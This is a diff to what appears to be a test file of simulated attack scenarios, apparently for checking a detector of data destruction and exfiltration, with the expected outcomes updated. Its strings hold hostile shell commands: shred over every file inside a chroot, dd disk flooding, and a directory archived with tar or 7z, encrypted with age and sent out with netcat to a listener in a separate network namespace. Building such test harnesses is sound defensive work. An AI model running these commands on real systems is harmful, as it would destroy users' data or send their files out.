@@ -18,9 +18,13 @@ for d in usr lib lib64 bin dev; do mount --bind "/$d" "$top/$d"; done
 mount --bind . "$top/data"; cd "$top/data"
 exec chroot "$top" sh -c "cd /data && find . -type f ! -name .\\* -print0 | xargs -0 shred -n1"' '''
 
-# The peer listens in the same network namespace, which nobody else is in.
+# To a host of the attack's own: another network namespace, over a veth pair. Both go with the attack.
 SENT = '''unshare --net bash -c '
-ip link set lo up; nc -l -p 4000 > /dev/null & sleep 0.5; {} | nc -N 127.0.0.1 4000; wait' '''
+unshare --net sh -c "until ip address add 10.99.0.2/24 dev peer0 2> /dev/null; do sleep 0.05; done
+    ip link set peer0 up; exec nc -l -p 4000 > /dev/null" & peer=$!
+while [ "$(readlink /proc/$peer/ns/net)" = "$(readlink /proc/$$/ns/net)" ]; do sleep 0.05; done
+ip link add here0 type veth peer name peer0 netns $peer; ip address add 10.99.0.1/24 dev here0; ip link set here0 up
+sleep 1; {} | nc -N 10.99.0.2 4000; wait; sleep 3; :' '''
 KEYS = 'age-keygen -o "$SCRATCH/key"; age-keygen -y "$SCRATCH/key" > "$SCRATCH/public"'
 AGE = 'age -R "$SCRATCH/public"'
 
@@ -60,9 +64,9 @@ ELSEWHERE = {
                                          'head -c 9000 /usr/bin/perl > "snapshots/$n"; done'),
     "S21-flood": Attack('for n in $(seq 8); do dd if=/dev/urandom of="junk$((n % 2))" bs=1M count=150 status=none; '
                         f'done; {SHRED}'),
-    "S22-tar-age-nc": Attack(SENT.format(f'tar c . | {AGE}'), ("age", "nc"), KEYS, outcome=Outcome.UNHARMED),
+    "S22-tar-age-nc": Attack(SENT.format(f'tar c . | {AGE}'), ("age", "nc"), KEYS, outcome=Outcome.TOLD),
     "S22-throttled": Attack(SENT.format(f'{EACH} {AGE} "$f"; sleep 0.01; done'), ("age", "nc"), KEYS,
-                            outcome=Outcome.UNHARMED),
+                            outcome=Outcome.TOLD),
     "S22-staged": Attack('7z a -psecret -mhe=on -bd -bso0 -bsp0 "$BESIDE/all.7z" . && '
-                         + SENT.format('cat "$BESIDE/all.7z"'), ("7z", "nc"), outcome=Outcome.UNHARMED),
+                         + SENT.format('cat "$BESIDE/all.7z"'), ("7z", "nc"), outcome=Outcome.TOLD),
 }
